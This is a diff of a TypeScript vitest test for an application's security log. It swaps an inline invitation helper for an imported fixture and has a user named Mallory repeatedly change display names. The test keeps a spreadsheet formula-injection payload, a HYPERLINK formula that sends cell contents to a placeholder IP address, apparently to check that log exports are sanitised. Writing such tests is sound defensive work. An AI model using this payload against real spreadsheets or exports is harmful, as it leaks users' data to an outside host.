@@ -1,5 +1,6 @@
 import { beforeAll, describe, expect, it } from "vitest";
 import { ApiClient, type Json } from "./api-client";
+import { invitePerson, type JoinedPerson } from "./people-fixtures";
 import { setupStudioServer } from "./studio-server";
 
 /**
@@ -13,21 +14,12 @@ const server = setupStudioServer();
 let owner: ApiClient;
 const FORMULA_NAME = '=HYPERLINK("http://198.51.100.9/?leak="&A1,"open")';
 const CHANGES = 23;
-let mallory: { client: ApiClient; id: string };
-
-async function join(login: string): Promise<{ client: ApiClient; id: string }> {
-  const { link } = await owner.expect(201, "POST", "/api/people/invitations", { role: "viewer", note: `for ${login}` });
-  const secret = new URL(link as string).pathname.split("/").pop()!;
-  const joined = await new ApiClient(server.url).post("/api/invitations/accept", { secret, login, displayName: "Mallory", password: "correct horse battery" });
-  expect(joined.status, joined.text).toBe(201);
-  const cookie = (joined.headers.get("set-cookie") ?? "").split(";")[0]!;
-  return { client: new ApiClient(server.url, { cookie }), id: joined.body.person.id as string };
-}
+let mallory: JoinedPerson;
 
 describe("the security log", () => {
   beforeAll(async () => {
     owner = server.client();
-    mallory = await join("mallory");
+    mallory = await invitePerson(owner, "mallory", "viewer", "Mallory");
     // Each change of name is an entry of theirs.
     for (let change = 1; change <= CHANGES; change += 1) await mallory.client.expect(200, "PATCH", "/api/me", { displayName: `Mallory ${change}` });
     // A browser signed in with the token records the name typed with it: here one a spreadsheet would run.
